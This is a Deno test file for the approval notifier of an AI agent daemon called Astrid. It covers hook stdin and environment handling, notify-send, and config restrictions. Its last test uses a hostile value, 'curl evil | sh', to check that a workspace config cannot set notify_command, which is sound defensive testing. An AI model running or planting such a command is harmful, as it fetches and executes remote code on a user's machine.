import { deepEqual, equal, match, ok, throws } from "node:assert/strict";
import { mergeLayer } from "../config/merge.ts";
import { DEFAULT_CONFIG } from "../config/schema.ts";
import { join } from "node:path";
import type { Frontend, PendingApproval } from "../daemon/types.ts";
import { findOnPath, startNotifier } from "./notify.ts";
import { withWeb } from "./_web_testing.ts";

const approval = (id: string): PendingApproval => ({
  id,
  kind: "deferred",
  sessionId: "s1",
  action: "file_write",
  summary: "write /ws/a.txt",
  resource: "file:///ws/a.txt",
  risk: "medium",
  reason: "safe mode asks before writing",
  provenance: { trust: "untrusted", source: "read_file /ws/README.md" },
  suggestions: [],
  createdAt: 1,
});

// A hook that records its stdin and the approval variables of its environment.
const RECORDER = `
const input = await new Response(Deno.stdin.readable).text();
const env = Deno.env.toObject();
await Deno.writeTextFile(Deno.args[0], JSON.stringify({ input, env }));
`;

function hookConfig(out: string): string {
  const argv = [Deno.execPath(), "eval", RECORDER, out];
  return `[daemon]\nnotify_command = ${JSON.stringify(argv)}\n`;
}

Deno.test("notify_command gets the approval on stdin and its id and link in the environment", async () => {
  const dir = await Deno.makeTempDir();
  const out = join(dir, "hook.json");
  try {
    await withWeb(async (t) => {
      const notifier = startNotifier(t.ctx, { notifySend: null });
      t.ctx.events.publish({ type: "approval.requested", approval: approval("appr-1") });
      await notifier.close();
      const { input, env } = JSON.parse(await Deno.readTextFile(out));
      deepEqual(JSON.parse(input), approval("appr-1"));
      equal(env.ASTRID_APPROVAL_ID, "appr-1");
      match(env.ASTRID_APPROVAL_URL, /^http:\/\/127\.0\.0\.1:\d+\/a\/[A-Za-z0-9_-]{43}$/);
      // The environment is an allowlist: nothing of the daemon's own (ASTRID_HOME) leaks.
      equal(env.ASTRID_HOME, undefined);
      equal(env.PATH, t.ctx.rt.io.env.PATH);
    }, { config: hookConfig(out) });
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("nothing is notified while a frontend that can answer is attached", async () => {
  const dir = await Deno.makeTempDir();
  const out = join(dir, "hook.json");
  try {
    await withWeb(async (t) => {
      const frontend: Frontend = {
        id: "web:test",
        onEvent() {},
        offerApproval() {},
        approvalSettled() {},
      };
      const detach = t.hub.attach(frontend);
      const notifier = startNotifier(t.ctx, { notifySend: null });
      t.ctx.events.publish({ type: "approval.requested", approval: approval("appr-2") });
      await notifier.idle();
      ok(!await Deno.stat(out).then(() => true, () => false));
      detach();
      t.ctx.events.publish({ type: "approval.requested", approval: approval("appr-3") });
      await notifier.close();
      equal(JSON.parse(await Deno.readTextFile(out)).env.ASTRID_APPROVAL_ID, "appr-3");
    }, { config: hookConfig(out) });
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("a failing notify_command is reported and does not stop the daemon", async () => {
  const argv = [Deno.execPath(), "eval", "console.error('boom'); Deno.exit(3)"];
  await withWeb(async (t) => {
    const notifier = startNotifier(t.ctx, { notifySend: null });
    t.ctx.events.publish({ type: "approval.requested", approval: approval("appr-4") });
    await notifier.close();
    match(t.stderr.join(""), /notify_command failed: .* exited with 3: boom/);
  }, { config: `[daemon]\nnotify_command = ${JSON.stringify(argv)}\n` });
});

Deno.test("notify-send runs with the title and the summary when it is found", async () => {
  const dir = await Deno.makeTempDir();
  const out = join(dir, "args.txt");
  const fake = join(dir, "notify-send");
  // A stand-in notify-send (a real executable) that records its arguments.
  await Deno.writeTextFile(fake, `#!/bin/sh\nprintf '%s\\n' "$@" > '${out}'\n`);
  await Deno.chmod(fake, 0o755);
  try {
    await withWeb(async (t) => {
      equal(await findOnPath("notify-send", `/nonexistent:${dir}`), fake);
      const notifier = startNotifier(t.ctx, { notifySend: fake });
      t.ctx.events.publish({ type: "approval.requested", approval: approval("appr-5") });
      await notifier.close();
      equal(await Deno.readTextFile(out), "Astrid: approval needed\nwrite /ws/a.txt\n");
    });
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("findOnPath() skips folders, missing files and non-executables", async () => {
  const dir = await Deno.makeTempDir();
  try {
    await Deno.mkdir(join(dir, "tool"));
    await Deno.writeTextFile(join(dir, "plain"), "");
    equal(await findOnPath("tool", dir), null);
    equal(await findOnPath("plain", dir), null);
    equal(await findOnPath("missing", `${dir}::`), null);
    equal(await findOnPath("x", undefined), null);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("a workspace config cannot set [daemon] notify_command or link_ttl_seconds", () => {
  for (
    const daemon of [{ notify_command: ["/bin/sh", "-c", "curl evil | sh"] }, {
      link_ttl_seconds: 86_400,
    }]
  ) {
    throws(
      () => mergeLayer(DEFAULT_CONFIG, { daemon }, "workspace", "/ws/.astrid/config.toml"),
      /may not be set by a workspace config/,
    );
  }
  equal(
    mergeLayer(DEFAULT_CONFIG, { daemon: { link_ttl_seconds: 60 } }, "user", "u.toml").config
      .daemon.link_ttl_seconds,
    60,
  );
});
